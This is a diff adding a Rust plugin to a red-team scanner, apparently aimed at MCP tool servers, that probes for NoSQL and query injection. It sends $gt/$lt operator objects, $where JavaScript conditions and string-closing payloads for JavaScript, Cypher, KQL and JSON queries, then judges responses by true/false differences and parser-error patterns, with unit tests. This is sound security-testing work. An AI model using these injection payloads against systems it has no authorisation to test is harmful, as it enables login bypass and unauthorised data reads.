@@ -1,0 +1,294 @@
+//! Values that become operators or parts of queries that are no SQL.
+
+use std::sync::LazyLock;
+
+use regex::Regex;
+use serde_json::{Value, json};
+
+use super::pairs::{self, Ordered};
+use super::{purpose, reach};
+use crate::attack::{Aim, Attack, Attempt, Bout, Brief, Facts, Field, Hit, Kind, Tried};
+use crate::finding::Severity;
+use crate::registry::Meta;
+
+pub(super) struct NosqlInjection;
+
+static META: Meta = Meta {
+    id: "nosql-injection",
+    aliases: &["query-injection", "cypher-injection", "kql-injection", "graphql-injection"],
+    summary: "A value becomes an operator or a part of a query",
+    docs: "\
+# What it does
+Sends objects with operators of document stores (`$gt`, `$lt`, `$where`) where a text is meant, and texts that close a string inside of a
+query in JavaScript, JSON, Cypher, KQL or GraphQL. Each comes as a condition that is true and as one that is false. Tools that sound as if
+they change data are left alone, as are arguments that take a query by contract.
+
+# Why it matters
+A password of \"greater than nothing\" fits every account; a query that the caller completes reads what it should not.
+
+# What counts as proof
+The same answer for everything true and another for what is false, with the same operators, letters and length. An error of the query
+language after a quote, and none after an escaped one, is suspected only.
+
+# Example
+```yaml
+redteam:
+  plugins: [nosql-injection]
+```
+
+# References
+- CWE-943, OWASP MCP05
+",
+    since: "0.1.0",
+};
+
+static FACTS: Facts = Facts {
+    severity: Severity::High,
+    cwe: &[943],
+    frameworks: &["MCP05", "ASI02", "LLM05"],
+    needs: &[],
+};
+
+const KINDS: [Kind; 5] = [Kind::Filter, Kind::Id, Kind::Name, Kind::Other, Kind::Text];
+
+/// Texts that complete a string of a query: form, and the text with `LOW` and `HIGH` in it. Each uses
+/// what only its language has. All but the first are for places that sound like a query.
+const TEXTS: [(&str, &str); 4] = [
+    ("JavaScript after closing single quotes", "zq' || 'LOW'.concat('')<'HIGH"),
+    ("Cypher after closing single quotes", "zq' OR 'LOW' STARTS WITH 'ab"),
+    ("KQL after closing single quotes", "zq' or 'LOW' startswith 'ab"),
+    ("KQL after closing double quotes", "zq\" or \"LOW\" startswith \"ab"),
+];
+
+/// What parsers of such languages say of a query that does not parse.
+static ERRORS: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r"(?i)Statement\.SyntaxError|Syntax Error: Unterminated string|Syntax Error: Expected |",
+        r"Syntax Error: Unexpected |Query could not be parsed|SYN000\d|SEM\d{4}:|",
+        r"MongoServerError: .{0,60}Syntax|Unterminated string in JSON|failed to parse query"
+    ))
+    .ok()
+});
+
+impl Attack for NosqlInjection {
+    fn meta(&self) -> &'static Meta {
+        &META
+    }
+
+    fn facts(&self) -> &'static Facts {
+        &FACTS
+    }
+
+    fn aims(&self, field: &Field<'_>) -> Vec<Aim> {
+        let mut aims = field.texts(&KINDS, true);
+        aims.extend(field.numbers());
+        let first = |aim: &Aim| aim.kinds.first().copied().unwrap_or(Kind::Other);
+        aims.retain(|aim| KINDS.contains(&first(aim)) || first(aim) == Kind::Number);
+        aims.retain(|aim| {
+            let takes_operators = aim.place.argument().is_some_and(|name| name.contains('$'));
+            !takes_operators && !purpose::is_query(field, aim) && !purpose::changes_data(aim)
+        });
+        aims
+    }
+
+    fn attempts(&self, aim: &Aim, brief: &Brief<'_>) -> Vec<Attempt> {
+        let mut volley = Volley { aim, brief, set: 0, made: Vec::new() };
+        let innocent = reach::plausible(aim);
+        let number = innocent.parse::<f64>().is_ok();
+        volley.operators(number);
+        if aim.is(Kind::Number) {
+            return volley.made;
+        }
+        let likely = !matches!(aim.kinds.first(), Some(Kind::Other | Kind::Text));
+        for (form, text) in TEXTS.into_iter().take(if likely { TEXTS.len() } else { 1 }) {
+            volley.pair(form, Ordered::words, |pair| {
+                text.replace("LOW", &pair.low).replace("HIGH", &pair.high)
+            });
+        }
+        volley.javascript();
+        if likely {
+            volley.json();
+            volley.quotes(&innocent);
+        }
+        volley.made
+    }
+
+    fn detect(&self, bout: &Bout<'_>) -> Vec<Hit> {
+        let mut hits = Vec::new();
+        for (_, set) in bout.sets() {
+            let Some(first) = set.first() else { continue };
+            let place = &bout.aim.place;
+            let title = format!("{place} becomes part of a query ({})", first.attempt.form);
+            if let Some(what) = pairs::differ(&set) {
+                hits.push(Hit::confirmed(title, what).by(first).fault("query"));
+            } else if let Some(what) = error_pair(bout, &set) {
+                let hit = Hit::suspected(title, what).by(first).fault("query");
+                hits.push(hit.severity(Severity::Medium));
+            }
+        }
+        hits
+    }
+}
+
+struct Volley<'a> {
+    aim: &'a Aim,
+    brief: &'a Brief<'a>,
+    set: usize,
+    made: Vec<Attempt>,
+}
+
+impl Volley<'_> {
+    fn pair<P: Into<Value>>(
+        &mut self,
+        form: &str,
+        draw: impl Fn(&Brief<'_>) -> Ordered,
+        payload: impl Fn(&Ordered) -> P,
+    ) {
+        self.made.extend(pairs::set(self.aim, self.brief, (self.set, form), draw, payload));
+        self.set += 1;
+    }
+
+    /// A range that holds every text, or every number, and with its ends exchanged none. Whoever
+    /// refuses operators by name refuses both alike.
+    fn operators(&mut self, number: bool) {
+        let texts = |brief: &Brief<'_>| {
+            let nonce = brief.nonce();
+            Ordered { low: format!("!{nonce}"), high: format!("~{nonce}") }
+        };
+        self.pair(
+            "operators in place of a text",
+            texts,
+            |pair| json!({"$gt": pair.low, "$lt": pair.high}),
+        );
+        if number {
+            let numbers = |brief: &Brief<'_>| {
+                let number = brief.number();
+                Ordered { low: format!("-1{number}000"), high: format!("11{number}000") }
+            };
+            self.pair("operators in place of a number", numbers, |pair| {
+                let number = |text: &str| text.parse::<i64>().unwrap_or_default();
+                json!({"$gt": number(&pair.low), "$lt": number(&pair.high)})
+            });
+        }
+    }
+
+    /// A condition in JavaScript as a further entry of a filter.
+    fn javascript(&mut self) {
+        if !reach::in_free_map(self.aim) {
+            return;
+        }
+        let Some((map, _)) = reach::parent(self.aim) else { return };
+        let aim = reach::at(self.aim, format!("{map}/$where"));
+        let form = (self.set, "$where as a further entry");
+        let made = pairs::set(&aim, self.brief, form, Ordered::words, |pair| {
+            format!("'{}'<'{}'", pair.low, pair.high)
+        });
+        self.made.extend(made);
+        self.set += 1;
+    }
+
+    /// A field once more, in a query that is put together as text. The last one counts.
+    fn json(&mut self) {
+        let name = self.aim.place.argument().unwrap_or_default();
+        let name = name.rsplit('/').next().unwrap_or_default().to_owned();
+        self.pair("a further field in JSON", Ordered::words, |pair| {
+            let range = json!({"$gt": format!("!{}", pair.low), "$lt": format!("~{}", pair.high)});
+            let none = json!({"$gt": format!("~{}", pair.low), "$lt": format!("!{}", pair.high)});
+            let range = if pair.low < pair.high { range } else { none };
+            format!("zq\",\"{name}\":{range},\"$comment\":\"q")
+        });
+    }
+
+    fn quotes(&mut self, innocent: &str) {
+        for quote in ['\'', '"'] {
+            let form = format!("a quote and an escaped quote ({quote})");
+            for (role, text) in [("quote", format!("{quote}")), ("escaped", format!("\\{quote}"))] {
+                let payload = format!("{innocent}{text}");
+                let nonce = self.brief.nonce();
+                let attempt = reach::attempt(self.aim, (self.set, &form), nonce, payload);
+                self.made.extend(attempt.map(|a| Attempt { role: role.to_owned(), ..a }));
+            }
+            self.set += 1;
+        }
+    }
+}
+
+/// An error of a parser after a quote, and none after an escaped one or without.
+fn error_pair(bout: &Bout<'_>, set: &[&Tried]) -> Option<String> {
+    let of = |role: &str| set.iter().find(|tried| tried.attempt.role == role);
+    let error = |text: &str| ERRORS.as_ref()?.find(text).map(|found| found.as_str().to_owned());
+    let found = error(&of("quote")?.said())?;
+    let escaped = of("escaped")?;
+    let fine = escaped.last()?.outcome.is_answer() && error(&escaped.said()).is_none();
+    let innocent = error(&bout.baseline()?.outcome.said()).is_none();
+    (fine && innocent).then(|| {
+        format!("after a quote the answer says {found:?}, after an escaped one it does not")
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::attacks::testing::{Room, answers, args};
+    use crate::finding::Confidence;
+
+    fn room() -> Room {
+        Room::with_argument("login", "filter", "ann")
+    }
+
+    fn text(attempt: &Attempt) -> String {
+        match attempt.payload.as_ref().unwrap() {
+            Value::String(text) => text.clone(),
+            other => other.to_string(),
+        }
+    }
+
+    #[test]
+    fn conditions_that_are_believed_are_proof() {
+        let hits = room().fight(&NosqlInjection, |attempt| {
+            answers(if attempt.role == "false" { "wrong" } else { "welcome" })
+        });
+        assert!(hits.len() >= TEXTS.len());
+        assert!(hits.iter().all(|hit| hit.confidence == Confidence::Confirmed));
+    }
+
+    #[test]
+    fn refusals_and_echoes_are_none() {
+        let judge = |answer: &dyn Fn(&Attempt) -> String| {
+            let hits = room().fight(&NosqlInjection, |attempt| answers(&answer(attempt)));
+            hits.iter().map(|hit| hit.title.clone()).collect::<Vec<_>>().join("; ")
+        };
+        assert_eq!(judge(&|attempt| format!("expected string, got {}", text(attempt))), "");
+        assert_eq!(judge(&|attempt| format!("looking for {:?}", attempt.payload)), "");
+        assert_eq!(judge(&|_| "operator $gt is not allowed".into()), "");
+        assert_eq!(judge(&|_| "Syntax Error: Expected Name".into()), "", "whatever is sent");
+    }
+
+    #[test]
+    fn an_error_after_an_odd_quote_is_suspected() {
+        let hits = room().fight(&NosqlInjection, |attempt| {
+            let odd = attempt.role == "quote" && text(attempt).ends_with('"');
+            answers(if odd { "Syntax Error: Unterminated string." } else { "nobody" })
+        });
+        assert_eq!(hits.len(), 1);
+        assert_eq!(hits[0].confidence, Confidence::Suspected);
+    }
+
+    #[test]
+    fn filters_that_take_any_field_get_a_where() {
+        let schema = json!({"type": "object", "properties": {"filter": {"type": "object"}}});
+        let room = Room::of_tools(&[json!({"name": "count", "inputSchema": schema})]);
+        let aims = NosqlInjection.aims(&room.field());
+        let attempts = NosqlInjection.attempts(&aims[0], &room.brief());
+        assert!(attempts.iter().any(|attempt| json!(args(attempt)).to_string().contains("$where")));
+    }
+
+    #[test]
+    fn queries_by_contract_and_tools_that_change_data_are_left_alone() {
+        let schema = json!({"type": "object", "properties": {"cypher": {"type": "string"}}});
+        let room = Room::of_tools(&[json!({"name": "ask", "inputSchema": schema})]);
+        assert!(NosqlInjection.aims(&room.field()).is_empty());
+        let room = Room::with_argument("update_user", "name", "ann");
+        assert!(NosqlInjection.aims(&room.field()).is_empty());
+    }
+}
